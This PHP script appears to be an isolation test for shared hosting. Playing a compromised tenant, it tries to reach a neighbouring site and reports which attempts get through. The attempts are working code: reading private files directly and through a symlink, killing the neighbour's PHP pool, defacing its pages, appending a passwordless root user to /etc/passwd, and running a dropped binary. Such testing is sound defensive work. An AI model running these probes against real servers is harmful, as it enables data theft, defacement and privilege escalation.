<?php
// SPDX-License-Identifier: Apache-2.0
// What a compromised shop.example tries against site.example.  Each line of the
// answer is RESULT, tab, attempt, tab, what PHP was told.  Each attempt is made
// on the attacker's own thing first: only where that works does a failure on the
// neighbour's count.  The demo passes in what the attacker would have to guess.
header('Content-Type: text/plain');
ini_set('display_errors', '0');

$own = dirname(__DIR__);
$victim = dirname($own) . '/site.example';
$pid = (int)($_GET['pid'] ?? 0);
$socket = (string)($_GET['socket'] ?? '');
$port = (int)($_GET['port'] ?? 0);

// Links for nginx to follow: one to a file of its own, one to the source of a script of the victim.
foreach (['own.txt' => 'prices.txt', 'neighbour.txt' => "$victim/public/index.php"] as $link => $target) {
	is_link(__DIR__ . "/$link") || symlink($target, __DIR__ . "/$link");
}

function line(string $result, string $attempt, string $said): void
{
	echo $result, "\t", $attempt, "\t", strtr($said, "\n\t", '  '), "\n";
}

// An attempt is stopped if it returns a false value; then PHP's warning tells why.
function attempt(string $name, callable $neighbour, ?callable $control = null): void
{
	error_clear_last();
	if ($control && !$control()) {
		line('untested', $name, 'does not even work on itself: ' . (error_get_last()['message'] ?? ''));
		return;
	}
	error_clear_last();
	$got = $neighbour();
	$why = error_get_last()['message'] ?? 'nothing of others is there';
	$why = preg_replace(['/^.*\(([A-Z][^()]+)\)$/', '/^.*: (?=[^:]*$)/'], ['$1', ''], $why);
	line($got ? 'GOT THROUGH' : 'stopped', $name, $got ? (string)$got : $why);
}

attempt('read its private file by its path',
	fn() => file_get_contents("$victim/private/secret.txt"),
	fn() => file_get_contents("$own/private/secret.txt"));
attempt('list the homes of others',
	fn() => array_diff(scandir(dirname($own)) ?: [], ['.', '..', basename($own)]) ? 'seen' : false,
	fn() => scandir(__DIR__));
attempt('read it through a link',
	fn() => file_get_contents(__DIR__ . '/neighbour.txt'),
	fn() => file_get_contents(__DIR__ . '/own.txt'));
attempt('find its processes in /proc', function () {
	foreach (preg_grep('/^\d+$/', scandir('/proc') ?: []) as $each) {
		$status = (string)@file_get_contents("/proc/$each/status");
		if (preg_match('/^Uid:\s*(\d+)/m', $status, $found) && (int)$found[1] !== posix_getuid()) {
			return "process $each";
		}
	}
	error_clear_last();
	return false;
}, fn() => file_get_contents('/proc/self/status'));
attempt('kill its pool', function () use ($pid) {
	if ($pid > 0 && posix_kill($pid, SIGKILL)) {
		return "signal sent to $pid";
	}
	trigger_error(': ' . posix_strerror(posix_get_last_error()), E_USER_WARNING);
	return false;
}, fn() => posix_kill(getmypid(), 0));
attempt('see its scripts in the OPcache', function () use ($victim) {
	$scripts = array_keys(opcache_get_status()['scripts'] ?? []);
	return implode(' ', array_filter($scripts, fn($s) => str_starts_with($s, $victim)));
}, fn() => opcache_get_status()['opcache_enabled'] ?? false);
attempt('send its pool a request of our own',
	fn() => stream_socket_client("unix://$socket", $number, $text, 2) ? 'connected' : false);
attempt('start a program',
	fn() => exec('id', $lines) ? implode($lines) : false);
attempt('reach services on the loopback of the machine',
	fn() => fsockopen('127.0.0.1', $port, $number, $text, 2) ? 'connected' : false);
attempt('write into its home',
	fn() => file_put_contents("$victim/public/defaced.html", 'defaced'),
	fn() => file_put_contents("$own/tmp/own.txt", 'own'));
attempt('write into the system',
	fn() => file_put_contents('/etc/passwd', "me::0:0::/:\n", FILE_APPEND));
attempt('run a program dropped into the home', function () use ($own) {
	copy('/proc/self/exe', "$own/tmp/dropped");
	chmod("$own/tmp/dropped", 0755);
	$process = proc_open(["$own/tmp/dropped"], [], $pipes);
	return is_resource($process) ? 'started' : false;
});
